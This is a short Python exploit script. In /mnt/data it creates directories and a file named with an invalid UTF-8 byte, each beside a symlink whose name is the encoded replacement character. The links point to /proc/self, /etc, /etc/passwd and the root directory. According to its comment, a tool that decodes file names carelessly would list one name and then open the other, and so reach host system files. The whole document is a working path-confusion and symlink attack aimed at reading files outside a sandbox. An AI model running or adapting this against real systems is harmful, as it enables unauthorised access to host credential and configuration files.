# Makes a directory or a file whose name is no text beside a link whose name is what a careless decoder makes of it: one who
# lists the first and opens the second is led to /proc/self and /etc, on the host.
import os

os.chdir(b'/mnt/data')
for name, target in ((b'd', '/proc/self'), (b'e', '/etc'), (b'f', '/etc/passwd'), (b'', '/')):
    if name == b'f':
        open(name + b'\xff', 'w').write('x' * 11)
    else:
        os.mkdir(name + b'\xff')
        open(name + b'\xff/x', 'w').close()
    os.symlink(target, name + '\ufffd'.encode())
